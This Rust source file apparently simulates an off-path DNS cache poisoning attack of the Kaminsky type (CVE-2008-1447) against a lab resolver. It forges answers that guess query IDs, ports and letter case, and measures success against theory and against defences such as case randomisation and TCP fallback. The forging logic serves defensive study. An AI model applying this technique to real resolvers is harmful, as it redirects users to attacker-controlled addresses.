//! Poisoning from off the path: the attacker makes the resolver ask, and answers before the server does, guessing what it cannot see.
//!
//! Each trial asks for a name that has not been asked for, so that a wrong guess costs nothing but the next trial; the forged answer brings
//! an address for the zone's own name server along, which is what the attacker is after. Source: RFC 5452 §4; the way of asking anew
//! each time became known in 2008 (CVE-2008-1447).

use std::{
    collections::BTreeMap,
    net::{IpAddr, SocketAddr},
    time::Duration,
};

use rand::{RngExt as _, SeedableRng as _, rngs::StdRng};

use super::{
    Config, IgnoredMessages, PoisonedCache, Poisoning, PoisoningResult,
    attacker::{ATTACKER, AttackScene, FORGED_TTL, FalseServer, Forgery, name},
    error::{AttackError, tell},
    theory,
};
use crate::{
    engine::{
        context::{Context, group_ends},
        name_lab::{LabClient, UnrecordedLookups},
    },
    net::{DatagramRecord, Intercept},
    proto::dns::{Message, MessageType, Name, OpCode, Query, RecordType, iterate::Settings, trace::QueryTransport},
    sim::names::Proportion,
    wire::{End, Ends, FlowHandle, FlowKind, Layer, Side, Sighting},
};

/// The zone that is attacked, its server, and what its visitors look for.
const ZONE: &str = "somesite.com.";
const SERVER: &str = "dns.somesite.com.";
const SITE: &str = "www.somesite.com.";

/// Tries it.
pub(super) async fn run(
    poisoning: &Poisoning,
    config: &Config,
    context: &Context,
    scene: &AttackScene<'_>,
    whole: &FlowHandle,
) -> Result<PoisoningResult, AttackError> {
    let authority = scene.server(SERVER)?.0;
    let client = scene.client()?;
    scene.local.set_settings(Settings {
        id_bits: poisoning.id_bits,
        port_bits: poisoning.port_bits,
        randomise_case: poisoning.randomise_case,
        tcp_on_misfits: poisoning.tcp_on_misfits,
        ..(*scene.local.settings()).clone()
    });
    let clock = context.clock();
    // What happens before the attack is in the record too: between its arrows nothing else was on its way.
    let before = whole.child(FlowKind::Run, BEFORE.to_owned(), group_ends(scene.local.name()), clock.now());
    let truth = client.look_up(&name(SITE), &before).await;
    let mut siege = PoisoningRun {
        poisoning,
        context,
        scene,
        client,
        authority,
        draws: StdRng::seed_from_u64(config.setting.path.seed ^ ATTACKERS_DRAWS),
        window: Duration::ZERO,
        sums: PoisoningSums::default(),
        unrecorded: UnrecordedLookups::of(whole),
    };
    let false_server = FalseServer::start(scene)?;
    siege.warm_up(&before).await;
    before.close(clock.now());
    let begun = clock.now();
    for trial in 0..config.trials {
        tell(context, trial, config.trials, "forging answers");
        let flow = if trial == 0 {
            whole.child(FlowKind::Run, "the first trial".to_owned(), group_ends(scene.local.name()), clock.now())
        } else {
            siege.unrecorded.one_more(clock.now())
        };
        let believed = siege.attempt(trial, &flow).await?;
        flow.close(clock.now());
        if believed {
            siege.sums.successes += 1;
            siege.find_worth(&truth).await;
            let flow = siege.unrecorded.one_more(clock.now());
            siege.warm_up(&flow).await;
        }
    }
    drop(false_server);
    Ok(siege.into_found(config.trials, clock.now().saturating_sub(begun)))
}

struct PoisoningRun<'a> {
    poisoning: &'a Poisoning,
    context: &'a Context,
    scene: &'a AttackScene<'a>,
    client: LabClient,
    authority: SocketAddr,
    draws: StdRng,
    /// How long the true answer takes.
    window: Duration,
    sums: PoisoningSums,
    unrecorded: UnrecordedLookups,
}

#[derive(Default)]
struct PoisoningSums {
    successes: u64,
    sent: u64,
    in_time: u64,
    octets: u64,
    ignored: BTreeMap<String, u64>,
    to_tcp: u32,
    letters: u32,
    example: String,
    worth: Option<PoisonedCache>,
}

impl PoisoningRun<'_> {
    /// The resolver's cache is empty but for the zone's name servers.
    async fn warm_up(&mut self, flow: &FlowHandle) {
        self.scene.local.resolver().memory().flush();
        self.client.look_up(&name(ZONE), flow).await;
        self.window = self.true_answer_takes();
        self.context.clock().sleep(SETTLE).await;
        self.scene.lab.naming().journal().clear();
    }

    /// As long as the resolver has measured.
    fn true_answer_takes(&self) -> Duration {
        let memory = self.scene.local.resolver().memory();
        memory.servers.get(self.authority).map_or(Duration::ZERO, |server| server.rtt)
    }

    /// One lookup, and forged answers to it. Was one believed?
    async fn attempt(&mut self, trial: u32, flow: &FlowHandle) -> Result<bool, AttackError> {
        let label = format!("{trial:06}{:04}.{ZONE}", self.draws.random_range(0..10_000_u32));
        let asked = name(&label);
        let forgery = Forgery::new(&asked, self.scene.attacker, Some((&name(ZONE), &name(SERVER))));
        if trial == 0 {
            self.sums.example = label;
            self.sums.letters = forgery.letters();
        }
        let Self { poisoning, context, scene, authority, draws, window, sums, .. } = self;
        // What comes to the resolver's host: for the count alone, the attacker knows nothing of it.
        let mut post = scene.lab.net().intercept(scene.local_at.ip(), Intercept::Copy)?;
        let from = *authority;
        let volley = Volley { poisoning, context, scene, from, window: *window, forgery: &forgery, flow };
        let mut answered = false;
        let believed = {
            let count = async {
                loop {
                    let came = post.recv().await;
                    let is_answer = !came.leaves && came.from == from;
                    // There is no such name, says who knows it.
                    answered |= is_answer && came.bytes.get(3).is_some_and(|flags| flags & RCODE != 0);
                    sums.in_time += u64::from(is_answer && !answered);
                }
            };
            tokio::select! {
                biased;
                () = count => Ok(false),
                believed = volley.fire(&asked, draws) => believed,
            }
        }?;
        sums.sent += u64::from(poisoning.forged);
        sums.octets += u64::from(poisoning.forged) * forgery.len() as u64 + QUERY_OCTETS + asked.len() as u64;
        let journal = scene.lab.naming().journal();
        for step in journal.steps() {
            sums.to_tcp += u32::from(step.over == QueryTransport::Tcp);
            for ignored in step.ignored {
                *sums.ignored.entry(ignored.rule).or_default() += u64::from(ignored.times);
            }
        }
        journal.clear();
        Ok(believed)
    }

    /// The resolver's answer for the site now.
    async fn find_worth(&mut self, truth: &[IpAddr]) {
        if self.sums.worth.is_some() {
            return;
        }
        let flow = self.unrecorded.one_more(self.context.clock().now());
        let told = self.client.look_up(&name(SITE), &flow).await;
        let text = |found: &[IpAddr]| found.first().map(IpAddr::to_string).unwrap_or_default();
        let (told, truth) = (text(&told), text(truth));
        self.sums.worth = Some(PoisonedCache { name: SITE.to_owned(), told, truth, for_seconds: FORGED_TTL });
    }

    fn into_found(self, trials: u32, took: Duration) -> PoisoningResult {
        let Self { poisoning, sums, window, .. } = self;
        let letters = if poisoning.randomise_case { sums.letters } else { 0 };
        let space_bits = poisoning.id_bits + poisoning.port_bits + letters;
        let mut ignored: Vec<IgnoredMessages> =
            sums.ignored.into_iter().map(|(rule, messages)| IgnoredMessages { rule, messages }).collect();
        ignored.sort_by_key(|ignored| std::cmp::Reverse(ignored.messages));
        PoisoningResult {
            measured: Proportion::new(sums.successes, trials.into()),
            theory: theory::poisoning(poisoning, letters, sums.in_time as f64 / f64::from(trials.max(1))),
            letters,
            space_bits,
            space: f64::from(space_bits).exp2(),
            example: sums.example,
            forged_sent: sums.sent,
            forged_in_time: sums.in_time,
            attacker_octets: sums.octets,
            window_seconds: window.as_secs_f64(),
            seconds: took.as_secs_f64(),
            ignored,
            went_to_tcp: sums.to_tcp,
            worth: sums.worth,
        }
    }
}

/// What one trial sends.
struct Volley<'a> {
    poisoning: &'a Poisoning,
    context: &'a Context,
    scene: &'a AttackScene<'a>,
    /// The source address that the forged answers bear.
    from: SocketAddr,
    window: Duration,
    forgery: &'a Forgery,
    flow: &'a FlowHandle,
}

impl Volley<'_> {
    /// Makes the resolver ask, and answers. True when the resolver then gives the forged answer.
    async fn fire(&self, asked: &Name, draws: &mut StdRng) -> Result<bool, AttackError> {
        let Self { context, scene, flow, .. } = self;
        let (clock, local) = (context.clock(), scene.local);
        let title = format!("{asked} A asked of {}", local.name());
        let mut socket = scene.network().datagrams(scene.local_at, local.name(), title, flow, None).await?;
        let mut query = Message::new(draws.random(), MessageType::Query, OpCode::Query);
        query.metadata.recursion_desired = true;
        query.add_query(Query::query(asked.clone(), RecordType::A));
        socket.send(&query.to_vec().unwrap_or_default()).await?;
        self.forge(draws).await?;
        let told = clock.timeout(PATIENCE, socket.recv()).await;
        let told = told.ok().and_then(Result::ok).and_then(|told| Message::from_vec(&told.bytes).ok());
        let addresses = told.iter().flat_map(|told| &told.answers).filter_map(|record| record.data.ip_addr());
        let believed = addresses.into_iter().any(|ip| ip == scene.attacker);
        socket.close();
        // Whatever is still on its way belongs to this trial.
        clock.sleep(self.window * 2 + SETTLE).await;
        Ok(believed)
    }

    /// Sends the forged answers in small bursts over most of the time the true one takes.
    async fn forge(&self, draws: &mut StdRng) -> Result<(), AttackError> {
        let Self { poisoning, context, scene, from, window, forgery, flow } = self;
        let (clock, net, to) = (context.clock(), scene.lab.net(), scene.local_at.ip());
        let ends = Ends {
            client: End { name: format!("{ATTACKER} in the name of {SERVER}"), ip_port: Some(*from) },
            server: End { name: scene.local.name().to_owned(), ip_port: None },
        };
        let title = format!("{} forged answers", poisoning.forged);
        let told = flow.child(FlowKind::Datagrams, title, ends, clock.now());
        let bursts = poisoning.forged.div_ceil(BURST);
        clock.sleep(*window / 100).await;
        for sent in 0..poisoning.forged {
            if sent > 0 && sent % BURST == 0 {
                clock.sleep(*window * 4 / 5 / bursts).await;
            }
            let id = drawn(draws, poisoning.id_bits);
            let port = FIRST_PORT + drawn(draws, poisoning.port_bits);
            let octets = forgery.guess(id, poisoning.randomise_case.then_some(&mut *draws));
            let recorded = (sent < RECORDED).then(|| {
                let seen = Sighting {
                    at: clock.now(),
                    from: Side::Client,
                    layer: Layer::Datagram,
                    transit: None,
                    wire_len: octets.len() as u64,
                };
                let event = told.octets(seen, &octets, None, octets.len());
                DatagramRecord { flow: told.clone(), from: Side::Client, event }
            });
            net.send_forged(*from, SocketAddr::new(to, port), scene.attacker.into(), octets, recorded)?;
        }
        told.close(clock.now());
        Ok(())
    }
}

/// A number of so many random bits.
fn drawn(draws: &mut StdRng, bits: u32) -> u16 {
    draws.random::<u16>() & u16::MAX.checked_shr(u16::BITS - bits.min(u16::BITS)).unwrap_or(0)
}

/// The flow of what happens before the first trial.
const BEFORE: &str = "before the attack: the true answer, and the zone's name servers";
/// Tells the attacker's draws from the network's, which have the same seed.
const ATTACKERS_DRAWS: u64 = 0x6661_6c73_6500_0000;
/// The first of the ports that may be drawn (RFC 6335 §6).
const FIRST_PORT: u16 = 49_152;
/// Forged answers sent at once: few enough for a receive buffer.
const BURST: u32 = 64;
/// Forged answers of the first trial that are in the record.
const RECORDED: u32 = 100;
/// In the fourth octet of a header (RFC 1035 §4.1.1).
const RCODE: u8 = 0x0f;
/// Octets of a query but for its name: header, final dot, type and class.
const QUERY_OCTETS: u64 = 12 + 4;
/// How long the attacker waits for the resolver's answer.
const PATIENCE: Duration = Duration::from_mins(1);
/// Time between two trials.
const SETTLE: Duration = Duration::from_millis(100);
